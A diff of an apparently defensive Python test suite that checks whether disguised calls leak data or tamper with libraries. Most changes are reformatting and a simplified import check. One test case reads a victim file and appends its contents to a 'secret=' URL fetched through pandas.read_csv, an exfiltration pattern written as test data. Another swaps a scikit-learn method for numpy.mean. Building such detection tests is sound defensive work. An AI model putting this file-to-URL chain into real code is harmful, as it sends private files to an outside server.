@@ -198,9 +198,7 @@ def watched(forbidden_imports: tuple[str, ...]) -> Iterator[list[tuple[str, str]
         _WATCH["armed"] = False
         socket.socket.connect = real_connect  # type: ignore[method-assign]
         for event, what in _WATCH["events"]:
-            if event != "import":
-                found.append((event, what))
-            elif what.split(".")[0] in forbidden_imports:
+            if event != "import" or what.split(".")[0] in forbidden_imports:
                 found.append((event, what))
 
 
@@ -295,9 +293,7 @@ CASES = [
     Case(
         "pandas-read-csv-exfiltrate",
         lambda t: G("pandas", "read_csv")(
-            G("operator", "add")(
-                "http://127.0.0.1:9/?secret=", G("pathlib", "Path.read_text")(_PATH(str(_victim(t))))
-            )
+            G("operator", "add")("http://127.0.0.1:9/?secret=", G("pathlib", "Path.read_text")(_PATH(str(_victim(t)))))
         ),
         control=False,
         harm=lambda t: False,  # the network is off; the hook records any connect attempt
@@ -338,8 +334,10 @@ CASES = [
             (None, {"predict": G("numpy", "mean")}),
         ),
         control=False,
-        harm=lambda t: not hasattr(__import__("sklearn.linear_model").linear_model.LogisticRegression, "predict")
-        or __import__("sklearn.linear_model").linear_model.LogisticRegression.predict.__name__ != "predict",
+        harm=lambda t: (
+            not hasattr(__import__("sklearn.linear_model").linear_model.LogisticRegression, "predict")
+            or __import__("sklearn.linear_model").linear_model.LogisticRegression.predict.__name__ != "predict"
+        ),
     ),
     Case(
         "estimator-holding-a-foreign-callable",
